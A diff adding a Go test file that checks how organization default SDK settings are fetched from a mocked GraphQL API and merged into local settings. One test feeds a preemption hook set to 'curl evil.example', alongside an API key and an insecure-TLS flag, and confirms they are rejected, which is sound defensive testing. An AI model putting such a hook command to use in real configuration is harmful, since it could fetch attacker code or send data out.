@@ -0,0 +1,110 @@
+package orgsettings_test
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/wandb/wandb/core/internal/gqlmock"
+	"github.com/wandb/wandb/core/internal/orgsettings"
+	"github.com/wandb/wandb/core/pkg/service"
+	"google.golang.org/protobuf/types/known/wrapperspb"
+)
+
+func TestFetch_Entity(t *testing.T) {
+	client := gqlmock.NewMockClient()
+	client.StubMatchOnce(
+		gqlmock.WithOpName("EntityDefaultSettings"),
+		`{"entity": {"sdkDefaultSettings":
+			"{\"_media_keep_last\": 10, \"ignore_globs\": [\"*.ckpt\"]}"}}`,
+	)
+
+	defaults, err := orgsettings.Fetch(context.Background(), client, "team")
+
+	require.NoError(t, err)
+	assert.Equal(t,
+		map[string]any{
+			"_media_keep_last": float64(10),
+			"ignore_globs":     []any{"*.ckpt"},
+		},
+		defaults)
+}
+
+func TestFetch_DefaultEntity(t *testing.T) {
+	client := gqlmock.NewMockClient()
+	client.StubMatchOnce(
+		gqlmock.WithOpName("ViewerDefaultSettings"),
+		`{"viewer": {"defaultEntity": {"sdkDefaultSettings": "{}"}}}`,
+	)
+
+	defaults, err := orgsettings.Fetch(context.Background(), client, "")
+
+	require.NoError(t, err)
+	assert.Empty(t, defaults)
+}
+
+func TestFetch_NoDefaults(t *testing.T) {
+	client := gqlmock.NewMockClient()
+	client.StubAnyOnce(`{"entity": {"sdkDefaultSettings": null}}`)
+
+	defaults, err := orgsettings.Fetch(context.Background(), client, "team")
+
+	require.NoError(t, err)
+	assert.Nil(t, defaults)
+}
+
+func TestMerge_SetsUnsetSettings(t *testing.T) {
+	settings := &service.Settings{
+		XConsoleDedupeLines: wrapperspb.Bool(false),
+	}
+
+	applied, err := orgsettings.Merge(settings, map[string]any{
+		"_console_dedupe_lines":            true,
+		"_console_upload_bytes_per_second": float64(1024),
+		"_history_aggregation_max_rate":    2.5,
+		"ignore_globs":                     []any{"*.ckpt"},
+		"_history_aggregation":             map[string]any{"loss": "mean"},
+	})
+
+	require.NoError(t, err)
+	assert.Equal(t,
+		[]string{
+			"_console_upload_bytes_per_second",
+			"_history_aggregation",
+			"_history_aggregation_max_rate",
+			"ignore_globs",
+		},
+		applied)
+	assert.False(t, settings.XConsoleDedupeLines.GetValue())
+	assert.EqualValues(t, 1024, settings.XConsoleUploadBytesPerSecond.GetValue())
+	assert.Equal(t, 2.5, settings.XHistoryAggregationMaxRate.GetValue())
+	assert.Equal(t, []string{"*.ckpt"}, settings.IgnoreGlobs.GetValue())
+	assert.Equal(t,
+		map[string]string{"loss": "mean"},
+		settings.XHistoryAggregation.GetValue())
+}
+
+func TestMerge_IgnoresInvalidDefaults(t *testing.T) {
+	settings := &service.Settings{}
+
+	applied, err := orgsettings.Merge(settings, map[string]any{
+		"api_key":             "secret",
+		"_preemption_hook":    "curl evil.example",
+		"_s3_insecure_tls":    true,
+		"not_a_setting":       1,
+		"_media_keep_last":    "ten",
+		"_media_sample_steps": float64(5),
+	})
+
+	assert.ErrorContains(t, err, "api_key")
+	assert.ErrorContains(t, err, "_preemption_hook")
+	assert.ErrorContains(t, err, "_s3_insecure_tls")
+	assert.ErrorContains(t, err, "not_a_setting")
+	assert.ErrorContains(t, err, "_media_keep_last")
+	assert.Equal(t, []string{"_media_sample_steps"}, applied)
+	assert.Nil(t, settings.ApiKey)
+	assert.Nil(t, settings.XPreemptionHook)
+	assert.Nil(t, settings.XS3InsecureTls)
+	assert.EqualValues(t, 5, settings.XMediaSampleSteps.GetValue())
+}